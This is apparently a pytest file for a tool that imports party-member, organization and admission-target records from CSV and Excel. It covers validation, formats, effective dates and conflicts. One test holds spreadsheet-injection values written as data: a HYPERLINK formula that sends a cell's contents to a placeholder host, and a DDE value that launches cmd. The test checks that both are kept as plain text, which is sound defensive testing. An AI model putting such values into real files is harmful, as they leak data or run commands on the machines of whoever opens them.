"""Importing the paper records (infra/importing/) into the real event store: validated row by
row against the record, all or nothing, idempotent; CSV (with or without BOM, `,` or `;`) and
Excel. The good files are the samples of docs/samples/ (docs/admin.md describes them)."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path
from uuid import UUID, uuid5

import pytest
from openpyxl import Workbook  # type: ignore[import-untyped]

from domain import policy
from domain.application import NAMESPACE, Context, Dangvien
from domain.errors import ConcurrencyConflict
from domain.member import Member, Status
from domain.organization import AdmissionTarget, Organization
from domain.person import Person
from domain.values import Actor, CellSetting, Education, Gender, OrgKind, Role
from infra.importing import (
    IMPORT_RULES,
    ImportReport,
    Kind,
    Staging,
    import_file,
    org_id_for,
)

SAMPLES = Path(__file__).resolve().parents[2] / "docs" / "samples"
ON = date(2026, 6, 15)
ADMIN = Actor("admin", Role.administrator, UUID(int=0))
sqlite_only = pytest.mark.parametrize("settings", ["sqlite"], indirect=True)


def run(
    app: Dangvien, kind: str, path: Path, *, on: date | None = ON, **options: object
) -> ImportReport:
    """The import on ON; `on` is the file's `--on` (the effective date of the facts that
    have no date column of their own)."""
    return import_file(app, kind, path, actor=ADMIN, on=on, today=ON, **options)  # type: ignore[arg-type]


def events(app: Dangvien) -> int:
    return int(app.recorder.max_notification_id() or 0)


def write(path: Path, *lines: str, encoding: str = "utf-8") -> Path:
    path.write_text("\n".join(lines) + "\n", encoding=encoding)
    return path


def problems(report: ImportReport) -> set[tuple[int, str, str]]:
    """(row, column, rule id) of every problem; each rule id is one the docs list."""
    known = IMPORT_RULES.keys() | policy.RULES.keys() | policy.PROCESS_GUARDS.keys()
    assert {p.rule_id for p in report.problems} <= known
    return {(p.row, p.column, p.rule_id) for p in report.problems}


def member_of(app: Dangvien, citizen_id: str) -> Member:
    person_id = app.person_id_for(citizen_id)
    return app.load(Member, uuid5(NAMESPACE, f"member/{person_id}"))


def import_samples(app: Dangvien) -> list[ImportReport]:
    return [run(app, kind, SAMPLES / f"{kind}.csv") for kind in ("orgs", "members", "targets")]


ORG_HEADER = "Mã,Tên,Loại,Mã cấp trên,Loại hình,Ngày thành lập,Được ủy quyền kết nạp"


# --- a good file -------------------------------------------------------------------------------


def test_a_good_file_imports_once_and_importing_it_again_changes_nothing(app: Dangvien) -> None:
    reports = import_samples(app)
    assert [r.rejected for r in reports] == [False, False, False]
    assert [len(r.added) for r in reports] == [9, 9, 2]
    assert all(r.written for r in reports)

    province = app.load(Organization, org_id_for("TU-SL"))
    commune = app.load(Organization, org_id_for("x-ab"))  # codes are case-insensitive
    school = app.load(Organization, org_id_for("DB-THPT"))
    hamlet_cell = app.load(Organization, org_id_for("CB-DONG"))
    clinic = app.load(Organization, org_id_for("CB-TYT"))
    assert (province.kind, province.parent_id) == (OrgKind.province_committee, None)
    assert (commune.kind, commune.parent_id) == (OrgKind.commune_committee, province.id)
    assert commune.hamlets == {"DONG": "Thôn Đông", "TAY": "Thôn Tây", "BAC": "Thôn Bắc"}
    assert school.may_admit and school.registered_on == date(1985, 9, 5)
    assert (hamlet_cell.kind, hamlet_cell.setting) == (OrgKind.cell, CellSetting.hamlet)
    assert hamlet_cell.serves == (commune.id, ("DONG",))
    assert (clinic.kind, clinic.setting) == (OrgKind.grassroots_cell, CellSetting.health_station)
    assert app.competent_committee(hamlet_cell.id, ON).id == commune.id
    assert app.competent_committee(org_id_for("CB-GV"), ON).id == school.id  # authorised
    assert commune.targets[2026] == AdmissionTarget(2026, count=8)
    assert app.load(Organization, org_id_for("DB-KDC")).targets[2026].admissions == 2  # 7% of 17

    an = member_of(app, "038070001234")
    assert an.cell_id == hamlet_cell.id and an.id in hamlet_cell.members_on(ON)
    assert (an.ceremony_on, an.decided_on, an.full_from) == (
        date(1995, 5, 19),
        date(1995, 5, 10),
        date(1996, 5, 19),
    )
    assert an.status_on(ON) is Status.full
    person = app.load(Person, an.person_id)
    assert person.member_id == an.id
    assert (person.data.full_name, person.data.gender, person.data.education) == (
        "Nguyễn Văn An",
        Gender.male,
        Education.upper_secondary,
    )
    assert (person.data.occupation, person.data.religion) == ("farmer", None)
    binh = app.load(Person, member_of(app, "038072002345").person_id).data
    assert (binh.religion, binh.gender) == ("Công giáo", Gender.female)
    teacher = member_of(app, "038078007890")
    assert teacher.residence_cell_id == hamlet_cell.id  # 213 link
    lan = member_of(app, "038099008901")
    assert lan.status_on(ON) is Status.probationary and lan.probation_ends == date(2026, 3, 10)
    assert app.load(Person, lan.person_id).data.youth_union_member

    written = events(app)
    again = import_samples(app)
    assert events(app) == written
    assert [len(r.unchanged) for r in again] == [9, 9, 2]
    assert [r.events for r in again] == [0, 0, 0]


# --- bad rows ----------------------------------------------------------------------------------


@sqlite_only
def test_an_org_file_with_bad_rows_is_rejected_whole_with_a_report_per_row(
    app: Dangvien, tmp_path: Path
) -> None:
    path = write(
        tmp_path / "orgs.csv",
        ORG_HEADER,
        "TU,Tỉnh ủy Sơn Lâm,Tỉnh ủy,,,01/01/1960,",  # 2: good
        "X1,Đảng ủy xã Một,Đảng ủy xã,TU,,31/02/1975,",  # 3: no such date
        "X2,Đảng ủy xã Hai,Ban tuyên giáo,TU,,01/01/1975,",  # 4: no such kind
        "CB1,Chi bộ Một,Chi bộ,TU,Thôn,01/01/1975,",  # 5: a cell under a province
        "DB1,Đảng bộ Một,Đảng bộ cơ sở,NOWHERE,,01/01/1975,",  # 6: unknown parent
        "TU,Tỉnh ủy khác,Tỉnh ủy,,,01/01/1960,",  # 7: the code again
        "CB2,Chi bộ Hai,Chi bộ,X1,Thôn,01/01/1976,",  # 8: under the refused row 3
        "X3,Đảng ủy xã Ba,Đảng ủy xã,TU,,01/01/1976,có",  # 9: not grassroots, not authorised
        ",Không mã,Chi bộ,TU,,01/01/1976,",  # 10: no code
    )
    report = run(app, Kind.orgs, path)
    assert report.rejected and not report.written
    assert problems(report) == {
        (3, "Ngày thành lập", "IMPORT-FORMAT"),
        (4, "Loại", "IMPORT-FORMAT"),
        (5, "Loại, Mã cấp trên, Ngày thành lập", "ORG-TREE"),
        (6, "Mã cấp trên", "NOT-FOUND"),
        (7, "Mã", "IMPORT-DUPLICATE"),
        (8, "Mã cấp trên", "IMPORT-REF"),
        (9, "Được ủy quyền kết nạp", "ORG-TREE"),
        (10, "Mã", "IMPORT-FORMAT"),
    }
    assert report.rejected_rows == [3, 4, 5, 6, 7, 8, 9, 10]
    by_row = {p.row: p for p in report.problems}
    assert "31/02/1975" in by_row[3].message("vi")
    assert by_row[5].message("en") == "A cell cannot sit under a province committee"
    assert "dòng 3" in by_row[8].message("vi") and "row 3" in by_row[8].message("en")
    assert events(app) == 0  # row 2 was good, but nothing of the file is written


@sqlite_only
def test_a_members_file_with_bad_rows_is_rejected_whole_naming_the_rules(
    app: Dangvien, tmp_path: Path
) -> None:
    run(app, Kind.orgs, SAMPLES / "orgs.csv")
    before = events(app)
    header = (
        "Số CCCD,Họ và tên,Ngày sinh,Giới tính,Dân tộc,Học vấn,Mã chi bộ,Ngày vào Đảng,"
        "Ngày quyết định kết nạp,Ngày chính thức,Mã chi bộ nơi cư trú"
    )
    path = write(
        tmp_path / "members.csv",
        header,
        "038070001234,Nguyễn Văn An,12/04/1970,Nam,Kinh,THPT,CB-DONG,19/05/1995,,19/05/1996,",
        "38070001235,Lê Văn Ba,12/04/1970,Nam,Kinh,THPT,CB-DONG,19/05/1995,,,",  # 11 digits
        "038070001234,Trần Văn An,12/04/1971,Nam,Kinh,THPT,CB-TAY,19/05/1996,,,",  # duplicate
        "038070001236,Phạm Văn Tư,12/04/1970,Nam,Kinh,THPT,CB-DONG,19/05/1995,,20/06/1996,",
        "038070001237,Hồ Văn Năm,12/04/1970,Nam,Kinh,THPT,CB-XXX,19/05/1995,,,",  # unknown
        "038070001238,Vũ Văn Sáu,12/04/1970,Nam,Kinh,THPT,CB-DONG,19/05/1995,,,CB-GV",  # school
        "038070001239,Đỗ Văn Bảy,12/04/1970,Nam,Kinh,THPT,CB-DONG,19/05/1995,20/05/1995,,",
        "038070001240,,12/04/1970,Nữ,Kinh,THPT,CB-DONG,19/05/1995,,,",  # no name
        "038070001241,Lý Thị Chín,12/04/1970,Nữ,Kinh,Đại học,X-AB,19/05/1995,,,",  # 2 problems
    )
    report = run(app, Kind.members, path)
    assert report.rejected and not report.written
    assert problems(report) == {
        (3, "Số CCCD", "IMPORT-FORMAT"),
        (4, "Số CCCD", "IMPORT-DUPLICATE"),
        (5, "Ngày chính thức", "PRB-EFFECTIVE"),
        (6, "Mã chi bộ", "NOT-FOUND"),
        (7, "Mã chi bộ nơi cư trú", "ORG-TREE"),
        (8, "Ngày vào Đảng", "DATE-ORDER"),
        (9, "Họ và tên", "IMPORT-FORMAT"),
        (10, "Học vấn", "IMPORT-FORMAT"),
    }
    by_row = {p.row: p for p in report.problems}
    assert "19/05/1996" in by_row[5].message("vi")  # the date full membership takes effect
    assert "dòng 2" in by_row[4].message("vi")
    assert by_row[7].message("en") == "A residence link is to a hamlet or residential-group cell"
    assert events(app) == before


@sqlite_only
def test_a_targets_file_with_bad_rows_is_rejected_whole(app: Dangvien, tmp_path: Path) -> None:
    run(app, Kind.orgs, SAMPLES / "orgs.csv")
    before = events(app)
    path = write(
        tmp_path / "targets.csv",
        "Mã tổ chức,Năm,Chỉ tiêu,Số đảng viên đầu năm",
        "X-AB,2026,8,",
        "DB-KDC,2026,7%,",  # a rate needs the start-of-year membership
        "NOPE,2026,3,",
        "x-ab,2026,9,",  # the same organization and year again
        "DB-THPT,2026,nhiều,",
    )
    report = run(app, Kind.targets, path)
    assert problems(report) == {
        (3, "Số đảng viên đầu năm", "ORG-TARGET"),
        (4, "Mã tổ chức", "NOT-FOUND"),
        (5, "Năm", "IMPORT-DUPLICATE"),
        (6, "Chỉ tiêu", "IMPORT-FORMAT"),
    }
    assert events(app) == before


@sqlite_only
def test_a_missing_required_column_or_an_unknown_one_rejects_the_file(
    app: Dangvien, tmp_path: Path
) -> None:
    path = write(
        tmp_path / "orgs.csv",
        "Mã,Tên,Loại cấp,Ngày thành lập",
        "TU,Tỉnh ủy Sơn Lâm,Tỉnh ủy,01/01/1960",
    )
    report = run(app, Kind.orgs, path)
    assert problems(report) == {(1, "Loại cấp", "IMPORT-COLUMNS"), (1, "Loại", "IMPORT-COLUMNS")}
    unreadable = tmp_path / "utf16.csv"  # Excel's "Unicode text", not UTF-8
    unreadable.write_bytes("Mã,Tên\nTU,Tỉnh ủy\n".encode("utf-16"))
    assert problems(run(app, Kind.orgs, unreadable)) == {(0, "", "IMPORT-FILE")}
    assert events(app) == 0


@sqlite_only
def test_a_dry_run_checks_every_row_and_writes_nothing(app: Dangvien) -> None:
    report = run(app, Kind.orgs, SAMPLES / "orgs.csv", dry_run=True)
    assert not report.rejected and not report.written
    assert len(report.added) == 9 and report.events == 14
    assert events(app) == 0


# --- formats -----------------------------------------------------------------------------------


@sqlite_only
def test_excel_and_csv_with_bom_and_semicolons_import_with_english_headers(
    app: Dangvien, tmp_path: Path
) -> None:
    semicolons = write(
        tmp_path / "orgs.csv",
        "code;name;kind;parent_code;setting;registered_on;hamlets",
        "TU-SL;Tỉnh ủy Sơn Lâm;province_committee;;;1960-01-01;",
        "X-AB;Đảng ủy xã An Bình;commune_committee;TU-SL;;1975-01-01;TAY: Thôn Tây",
        "DB-KDC;Đảng bộ khu dân cư;grassroots_committee;X-AB;;1975-01-01;",
        "CB-TAY;Chi bộ thôn Tây;cell;DB-KDC;hamlet;1975-01-01;",
        encoding="utf-8-sig",
    )
    assert semicolons.read_bytes().startswith(b"\xef\xbb\xbf")
    assert len(run(app, Kind.orgs, semicolons).added) == 4

    book = Workbook()
    sheet = book.active
    sheet.append(
        [
            *("citizen_id", "full_name", "birth_date", "gender", "ethnicity", "education"),
            *("cell_code", "joined_on", "full_from", "occupation", "trade_union_member"),
        ]
    )
    # A number cell: the CCCD's leading zero is lost and put back.
    sheet.append(
        [
            *(38085004567, "Trần Thị Dung", datetime(1985, 6, 15), "female", "Kinh"),
            *("upper_secondary", "CB-TAY", datetime(2010, 5, 19), "2011-05-19", "Học sinh", True),
        ]
    )
    sheet.append(
        [
            *("038080005678", "Hoàng Văn Em", "30/01/1980", "Nam", "Tày", "9/12"),
            *("cb-tay", "03/02/2008", None, None, None),
        ]
    )
    xlsx = tmp_path / "members.xlsx"
    book.save(xlsx)
    report = run(app, Kind.members, xlsx)
    assert not report.rejected and report.added == [2, 3]
    dung = member_of(app, "038085004567")
    data = app.load(Person, dung.person_id).data
    assert (data.birth_date, data.occupation, data.trade_union_member) == (
        date(1985, 6, 15),
        "student",
        True,
    )
    assert dung.full_from == date(2011, 5, 19)
    em = member_of(app, "038080005678")
    assert em.status_on(ON) is Status.probationary  # no full-member date given
    assert app.load(Person, em.person_id).data.education is Education.lower_secondary


def test_a_csv_with_doubled_quotes_and_semicolons_keeps_every_value_in_its_column(
    app: Dangvien, tmp_path: Path
) -> None:
    # The header holds no quote: the dialect must come from the rows below it.
    orgs = write(
        tmp_path / "orgs.csv",
        "code;name;kind;parent_code;setting;registered_on;hamlets",
        'TU-QN;"Tỉnh ủy ""Quảng Ninh""; khối A";province_committee;;;1960-01-01;',
        'X-QN;"Đảng ủy xã ""Hạ Long""";commune_committee;TU-QN;;1975-01-01;"TAY: Thôn Tây; '
        'DONG: Thôn ""Đông"""',
        "DB-QN;Đảng bộ khu dân cư;grassroots_committee;X-QN;;1975-01-01;",
        'CB-QN;"Chi bộ ""thôn Tây""";cell;DB-QN;hamlet;1975-01-01;',
    )
    report = run(app, Kind.orgs, orgs)
    assert not report.rejected, report.problems
    assert len(report.added) == 4
    province = app.load(Organization, org_id_for("TU-QN"))
    commune = app.load(Organization, org_id_for("X-QN"))
    cell = app.load(Organization, org_id_for("CB-QN"))
    assert province.name == 'Tỉnh ủy "Quảng Ninh"; khối A'
    assert province.kind is OrgKind.province_committee
    assert commune.name == 'Đảng ủy xã "Hạ Long"'
    assert dict(commune.hamlets) == {"TAY": "Thôn Tây", "DONG": 'Thôn "Đông"'}
    assert (cell.name, cell.parent_id, cell.setting) == (
        'Chi bộ "thôn Tây"',
        org_id_for("DB-QN"),
        CellSetting.hamlet,
    )


def test_a_value_that_looks_like_a_formula_is_imported_as_its_text(
    app: Dangvien, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
    csv_file = write(
        tmp_path / "orgs.csv",
        "code,name,kind,parent_code,setting,registered_on",
        "TU-F,Tỉnh ủy F,province_committee,,,1960-01-01",
        f'X-F,"{formula.replace(chr(34), chr(34) * 2)}",commune_committee,TU-F,,1975-01-01',
        "DB-F,+cmd|' /C calc'!A0,grassroots_committee,X-F,,1975-01-01",
        "CB-F,@SUM(1+1),cell,DB-F,hamlet,1975-01-01",
    )
    assert not run(app, Kind.orgs, csv_file).rejected
    assert app.load(Organization, org_id_for("X-F")).name == formula
    assert app.load(Organization, org_id_for("DB-F")).name == "+cmd|' /C calc'!A0"
    assert app.load(Organization, org_id_for("CB-F")).name == "@SUM(1+1)"

    # In a workbook, a formula cell is read as what was typed, never as what it computes.
    book = Workbook()
    sheet = book.active
    sheet.append(["code", "name", "kind", "parent_code", "setting", "registered_on"])
    sheet.append(["CB-G", "=1+1", "cell", "DB-F", "hamlet", datetime(1975, 1, 1)])
    xlsx = tmp_path / "cells.xlsx"
    book.save(xlsx)
    assert not run(app, Kind.orgs, xlsx).rejected
    assert app.load(Organization, org_id_for("CB-G")).name == "=1+1"


# --- a changed file ------------------------------------------------------------------------------


@sqlite_only
def test_a_changed_file_records_new_facts_and_refuses_what_an_import_cannot_change(
    app: Dangvien, tmp_path: Path
) -> None:
    import_samples(app)
    orgs = (SAMPLES / "orgs.csv").read_text(encoding="utf-8")
    renamed = orgs.replace("Chi bộ thôn Tây,", "Chi bộ thôn Tây mới,").replace(
        "BAC: Thôn Bắc", "BAC: Thôn Bắc; NAM: Thôn Nam"
    )
    report = run(app, Kind.orgs, write(tmp_path / "orgs.csv", renamed))
    assert not report.rejected
    assert report.updated == [3, 6]  # the commune's new hamlet, the cell's new name
    assert app.load(Organization, org_id_for("CB-TAY")).name == "Chi bộ thôn Tây mới"
    assert app.load(Organization, org_id_for("X-AB")).hamlets["NAM"] == "Thôn Nam"
    assert [e.name for e in app.history(org_id_for("CB-TAY"))][-1] == "Organization.Renamed"

    members = (SAMPLES / "members.csv").read_text(encoding="utf-8")
    moved = members.replace('"Thôn Đông, xã An Bình",THPT,Nông dân', '"Xóm Mới",THPT,Nông dân', 1)
    report = run(app, Kind.members, write(tmp_path / "members.csv", moved))
    assert report.updated == [2] and not report.rejected  # a corrected address
    an = member_of(app, "038070001234")
    assert app.load(Person, an.person_id).data.address == "Xóm Mới"
    assert [e.name for e in app.history(an.person_id)][-1] == "Person.Corrected"

    before = events(app)
    other_cell = moved.replace("Nông dân,,,CB-DONG", "Nông dân,,,CB-TAY", 1)
    report = run(app, Kind.members, write(tmp_path / "members.csv", other_cell))
    assert problems(report) == {(2, "Mã chi bộ", "IMPORT-CONFLICT")}
    assert "(Chi bộ thôn Đông)" in report.problems[0].message("en")
    assert events(app) == before


# --- effective dates ----------------------------------------------------------------------------

MEMBER_HEADER = (
    "Số CCCD,Họ và tên,Ngày sinh,Giới tính,Dân tộc,Học vấn,Mã chi bộ,Ngày vào Đảng,"
    "Ngày quyết định kết nạp,Ngày chính thức,Mã chi bộ nơi cư trú,Ngày hiệu lực"
)


def effective_dates(app: Dangvien, aggregate_id: UUID, name: str) -> list[date]:
    return [e.effective_on for e in app.history(aggregate_id) if e.name == name]


@sqlite_only
def test_a_residence_link_takes_the_date_the_file_states_and_a_row_stating_none_is_refused(
    app: Dangvien, tmp_path: Path
) -> None:
    """The 213 link of a member from a paper dossier is dated by the row's 'Ngày hiệu lực',
    else by --on for the file; a row with neither is refused (IMPORT-DATE) and nothing of
    the file is written — never a link dated on the day of the import."""
    run(app, Kind.orgs, SAMPLES / "orgs.csv")
    path = write(
        tmp_path / "members.csv",
        MEMBER_HEADER,
        "038070001234,Nguyễn Văn An,12/04/1970,Nam,Kinh,THPT,CB-GV,19/05/1995,10/05/1995,"
        "19/05/1996,CB-DONG,01/10/2018",  # 2: its own date
        "038070001235,Lê Văn Ba,12/04/1970,Nam,Kinh,THPT,CB-GV,19/05/2005,,19/05/2006,CB-TAY,",
        "038070001236,Phạm Văn Tư,12/04/1970,Nam,Kinh,THPT,CB-DONG,19/05/2005,,,,",  # no link
    )
    before = events(app)

    report = run(app, Kind.members, path, on=None)

    assert problems(report) == {(3, "Ngày hiệu lực", "IMPORT-DATE")}
    refused = report.problems[0]
    assert "Ngày hiệu lực" in refused.message("vi") and "--on" in refused.message("en")
    assert not report.written and events(app) == before

    report = run(app, Kind.members, path, on=date(2018, 9, 3))

    assert not report.rejected and report.written
    an, ba = member_of(app, "038070001234"), member_of(app, "038070001235")
    assert effective_dates(app, an.id, "Member.ResidenceLinked") == [date(2018, 10, 1)]
    assert effective_dates(app, ba.id, "Member.ResidenceLinked") == [date(2018, 9, 3)]
    # The person is on record from the decision on their dossier, before everything else.
    assert app.history(an.person_id)[0].effective_on == date(1995, 5, 10)
    for member in (an, ba):
        dates = [e.effective_on for e in app.history(member.id)]
        assert dates == sorted(dates)
        assert ON not in dates


@sqlite_only
@pytest.mark.parametrize(
    ("kind", "text", "row_column_rule"),
    [
        # A residence link dated before the member joined, or after the day of the import.
        pytest.param(
            Kind.members,
            "038070001234,Nguyễn Văn An,12/04/1970,Nam,Kinh,THPT,CB-GV,19/05/1995,,,CB-DONG,"
            "01/01/1990",
            (2, "Ngày hiệu lực", "DATE-ORDER"),
            id="link-before-joining",
        ),
        pytest.param(
            Kind.members,
            "038070001234,Nguyễn Văn An,12/04/1970,Nam,Kinh,THPT,CB-GV,19/05/1995,,,CB-DONG,"
            "16/06/2026",
            (2, "Ngày hiệu lực", "DATE-ORDER"),
            id="link-after-the-import",
        ),
        # A target with no day it was set.
        pytest.param(
            Kind.targets,
            "X-AB,2027,9,,",
            (2, "Ngày hiệu lực", "IMPORT-DATE"),
            id="target-without-its-day",
        ),
    ],
)
def test_an_effective_date_missing_or_out_of_order_refuses_the_row(
    app: Dangvien, tmp_path: Path, kind: Kind, text: str, row_column_rule: tuple[int, str, str]
) -> None:
    run(app, Kind.orgs, SAMPLES / "orgs.csv")
    header = (
        MEMBER_HEADER if kind is Kind.members else "Mã tổ chức,Năm,Chỉ tiêu,Ngày giao,Ngày hiệu lực"
    )
    before = events(app)
    report = run(app, kind, write(tmp_path / "rows.csv", header, text), on=None)
    assert problems(report) == {row_column_rule}
    assert events(app) == before


@sqlite_only
def test_a_change_to_a_recorded_fact_needs_its_effective_date(
    app: Dangvien, tmp_path: Path
) -> None:
    """A new name, a new hamlet, corrected personal data: each dated by the row or --on."""
    import_samples(app)
    before = events(app)
    orgs = (SAMPLES / "orgs.csv").read_text(encoding="utf-8")
    renamed = write(tmp_path / "orgs.csv", orgs.replace("Chi bộ thôn Tây,", "Chi bộ thôn Tây mới,"))
    members = (SAMPLES / "members.csv").read_text(encoding="utf-8")
    moved = write(
        tmp_path / "members.csv",
        members.replace('"Thôn Đông, xã An Bình",THPT,Nông dân', '"Xóm Mới",THPT,Nông dân', 1),
    )

    assert problems(run(app, Kind.orgs, renamed, on=None)) == {(6, "Ngày hiệu lực", "IMPORT-DATE")}
    assert problems(run(app, Kind.members, moved, on=None)) == {(2, "Ngày hiệu lực", "IMPORT-DATE")}
    assert events(app) == before

    assert run(app, Kind.orgs, renamed, on=date(2026, 1, 5)).written
    assert run(app, Kind.members, moved, on=date(2026, 2, 2)).written
    cell = org_id_for("CB-TAY")
    assert effective_dates(app, cell, "Organization.Renamed") == [date(2026, 1, 5)]
    an = member_of(app, "038070001234")
    assert effective_dates(app, an.person_id, "Person.Corrected") == [date(2026, 2, 2)]


def test_a_writer_in_between_makes_the_whole_import_fail_with_nothing_written(
    app: Dangvien,
) -> None:
    run(app, Kind.orgs, SAMPLES / "orgs.csv")
    commune = org_id_for("X-AB")
    staging = Staging(app)
    staging.register_hamlet(Context(ADMIN, "import/a"), commune, "NAM", "Thôn Nam", ON)
    staging.rename_organization(Context(ADMIN, "import/b"), org_id_for("CB-GV"), "Chi bộ GV", ON)
    assert len(staging.pending) == 2 and events(app) == 14
    app.register_hamlet(Context(ADMIN, "elsewhere"), commune, "MOI", "Thôn Mới", ON)
    with pytest.raises(ConcurrencyConflict):
        staging.save_staged()
    assert events(app) == 15  # the other writer's event only: the rename was not written either
    assert app.load(Organization, org_id_for("CB-GV")).name == "Chi bộ giáo viên"
